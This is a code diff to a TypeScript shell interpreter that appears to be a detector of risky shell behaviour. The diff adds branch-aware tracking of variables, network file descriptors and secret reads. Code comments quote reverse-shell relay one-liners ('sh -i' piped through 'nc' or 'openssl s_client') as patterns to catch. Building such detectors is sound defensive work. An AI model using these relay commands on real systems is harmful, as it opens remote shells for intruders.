@@ -25,6 +25,8 @@ export class BudgetExceeded extends Error {}
 export interface VarVal {
   text: string;
   known: boolean;
+  /** the values it may have when branches set it differently */
+  alts?: string[];
   taints: Taint[];
   mapBase?: number;
   start?: number;
@@ -257,6 +259,7 @@ export class Interp {
         return EMPTY;
       }
       case "if_statement":
+        return this.runIf(node, frame, state, stdin);
       case "while_statement":
       case "until_statement":
         return this.runChildren(node, frame, state, stdin);
@@ -268,15 +271,25 @@ export class Interp {
         const value = node.childForFieldName("value");
         if (value) this.word(value, frame, state);
         let taints: Taint[] = [];
+        const branches: State[] = [];
         for (let i = 0; i < node.namedChildCount; i++) {
           const c = node.namedChild(i)!;
           if (c.type !== "case_item") continue;
+          const b = this.fork(state);
+          branches.push(b);
           for (let j = 0; j < c.namedChildCount; j++) {
             const s = c.namedChild(j)!;
             if (c.fieldNameForChild?.(indexOfChild(c, s)) === "value") continue;
-            if (isStatement(s)) taints = mergeTaints(taints, this.runStatement(s, frame, state, stdin).taints);
+            if (isStatement(s)) taints = mergeTaints(taints, this.runStatement(s, frame, b, stdin).taints);
           }
         }
+        // a `*)` branch means some branch always runs
+        let catchAll = false;
+        for (let i = 0; i < node.namedChildCount; i++) {
+          const c = node.namedChild(i)!;
+          if (c.type === "case_item" && /^\s*\*\s*\)/.test(c.text)) catchAll = true;
+        }
+        this.joinBranches(state, branches, !catchAll);
         return { taints };
       }
       case "test_command":
@@ -304,6 +317,61 @@ export class Interp {
         // Unknown statement kinds: run what they contain rather than skip it.
         if (isStatement(node) || node.namedChildCount > 0) return this.runChildren(node, frame, state, stdin);
         return EMPTY;
+    }
+  }
+
+  /** Each branch of an if runs on its own copy of the state; afterwards a variable whose
+   *  value differs between branches (or that only some branches set) is unknown. */
+  private runIf(node: SyntaxNode, frame: Frame, state: State, stdin: Content): Content {
+    const stmts: SyntaxNode[] = [];
+    const clauses: SyntaxNode[] = [];
+    for (let i = 0; i < node.namedChildCount; i++) {
+      const c = node.namedChild(i)!;
+      if (c.type === "elif_clause" || c.type === "else_clause") clauses.push(c);
+      else if (c.type !== "comment") stmts.push(c);
+    }
+    let taints: Taint[] = [];
+    if (stmts[0]) taints = this.runStatement(stmts[0], frame, state, stdin).taints;
+    const branches: State[] = [];
+    const then = this.fork(state);
+    for (const s of stmts.slice(1)) taints = mergeTaints(taints, this.runStatement(s, frame, then, stdin).taints);
+    branches.push(then);
+    for (const c of clauses) {
+      const b = this.fork(state);
+      taints = mergeTaints(taints, this.runChildren(c, frame, b, stdin).taints);
+      branches.push(b);
+    }
+    this.joinBranches(state, branches, !clauses.some((c) => c.type === "else_clause"));
+    return { taints };
+  }
+
+  private joinBranches(state: State, branches: State[], mayTakeNone: boolean): void {
+    const all = mayTakeNone ? [...branches, state] : branches;
+    const names = new Set<string>();
+    for (const b of all) for (const k of b.vars.keys()) names.add(k);
+    for (const name of names) {
+      const vals = all.map((b) => b.vars.get(name));
+      const first = vals[0];
+      const same = vals.every((v) => v !== undefined && first !== undefined && v.known && first.known && v.text === first.text);
+      const taints = mergeTaints(...vals.map((v) => v?.taints));
+      if (same) state.vars.set(name, { ...first!, taints });
+      else {
+        const v: VarVal = { text: "$" + name, known: false, taints };
+        // Every branch knows its value: keep the set, so each value is judged.
+        if (vals.every((x) => x !== undefined && x.known)) v.alts = [...new Set(vals.map((x) => x!.text))].slice(0, 8);
+        else {
+          const alts = vals.flatMap((x) => (x?.known ? [x.text] : x?.alts ?? []));
+          if (alts.length && vals.every((x) => x !== undefined && (x.known || x.alts))) v.alts = [...new Set(alts)].slice(0, 8);
+        }
+        state.vars.set(name, v);
+      }
+    }
+    for (const b of branches) {
+      for (const [k, f] of b.funcs) if (!state.funcs.has(k)) state.funcs.set(k, f);
+      for (const [k, a] of b.aliases) if (!state.aliases.has(k)) state.aliases.set(k, a);
+      for (const [k, f] of b.netFds) if (!state.netFds.has(k)) state.netFds.set(k, f);
+      for (const [k, m] of b.remoteMounts) if (!state.remoteMounts.has(k)) state.remoteMounts.set(k, m);
+      if (b.cwd !== state.cwd) state.cwd = branches.every((x) => x.cwd === b.cwd) && !mayTakeNone ? b.cwd : undefined;
     }
   }
 
@@ -346,6 +414,13 @@ export class Interp {
       input = this.runPipelineParts(parts, frame, state, input);
     } finally {
       this.pipeMarks.pop();
+    }
+    // tree-sitter nests `a | b 2>&1 | c` as ((a | b) 2>&1) | c: the inner pipeline is part of
+    // the outer one, so what it saw counts there too.
+    const outer = this.pipeMarks[this.pipeMarks.length - 1];
+    if (outer) {
+      outer.shell ??= marks.shell;
+      outer.net ??= marks.net;
     }
     // A shell reading its commands from a pipeline that also talks to a network peer
     // (`cat f | sh -i 2>&1 | nc h p > f`, `sh -i < f | openssl s_client … > f`) is a relay.
@@ -509,6 +584,7 @@ export class Interp {
 
   setVar(state: State, name: string, val: Val): void {
     const v: VarVal = { text: val.text, known: val.known, taints: val.taints, start: val.start, end: val.end };
+    if (!val.known && val.alts) v.alts = val.alts;
     if (val.mapBase !== undefined) v.mapBase = val.mapBase;
     state.vars.set(name, v);
   }
@@ -711,6 +787,7 @@ export class Interp {
     const v = this.lookupVar(name, state, start, end);
     // An unknown value is named by its variable: the same `$TMP` written and read is one file.
     const val: Val = { text: v.known ? v.text : "$" + name, known: v.known, start, end, taints: v.taints, quoted: false };
+    if (!v.known && v.alts) val.alts = v.alts;
     if (v.known && this.isSecretName(name) && !state.vars.has(name)) val.taints = v.taints;
     return val;
   }
@@ -895,7 +972,7 @@ export class Interp {
     for (let i = 0; i < node.childCount; i++) {
       const c = node.child(i)!;
       if (c.type === "file_descriptor") fd = c.text;
-      else if (isReadWriteOperatorError(c)) op += ">";
+      else if (isReadWriteOperatorError(c)) op += c.text;
       else if (!c.isNamed && (op === "" || op === "<")) op += c.text;
       else if (c.isNamed && !dest) dest = c;
       else if (c.isNamed && c.type !== "comment") {
@@ -920,6 +997,9 @@ export class Interp {
     for (const r of redirects) {
       if (r.op === "<<" || r.op === "<<-" || r.op === "<<<") {
         input = r.target.known ? { text: r.target.text, taints: r.target.taints } : { taints: mergeTaints(r.target.taints, [{ kind: "local", label: "here-document", start: r.target.start, end: r.target.end }]) };
+      } else if (r.op === "<&" && (r.fd === undefined || r.fd === "0") && state.netFds.has(r.target.text)) {
+        const peer = state.netFds.get(r.target.text)!;
+        input = { taints: [{ kind: "download", label: `network peer ${peer.peer}`, start: r.target.start, end: r.target.end }] };
       } else if ((r.op === "<" || r.op === "<>") && (r.fd === undefined || r.fd === "0")) {
         if (r.target.known && /^\/dev\/(?:tty|stdin|fd\/0)$/.test(r.target.text)) input = { taints: [], tty: true } as Content;
         else input = this.readFile(r.target, state, frame, "redirect");
@@ -931,6 +1011,10 @@ export class Interp {
   /** What reading the file named by `v` yields, judging a sensitive read. */
   readFile(v: Val, state: State, frame: Frame, how: string): Content {
     if (v.content) return v.content;
+    if (!v.known && v.alts) {
+      const outs = v.alts.map((a) => this.readFile({ ...v, text: a, known: true, alts: undefined }, state, frame, how));
+      return { taints: mergeTaints(...outs.map((o) => o.taints)) };
+    }
     const key = fileKey(v, state);
     const written = key !== undefined ? state.files.get(key) : undefined;
     if (written) return written;
@@ -969,7 +1053,7 @@ export class Interp {
       const t = r.target;
       const peer = t.known ? netPeer(t.text) : undefined;
       if (peer) {
-        if (inv && inv.argv[0] && r.fd !== undefined && r.fd !== "1" && r.fd !== "2" && (op === "<>" || op === ">" || op === "<")) {
+        if (r.fd !== undefined && r.fd !== "1" && r.fd !== "2" && (op === "<>" || op === ">" || op === "<")) {
           state.netFds.set(r.fd, { peer, start: t.start, end: t.end });
         }
         hooks.netRedirect(this, r, peer, out, inv, state);
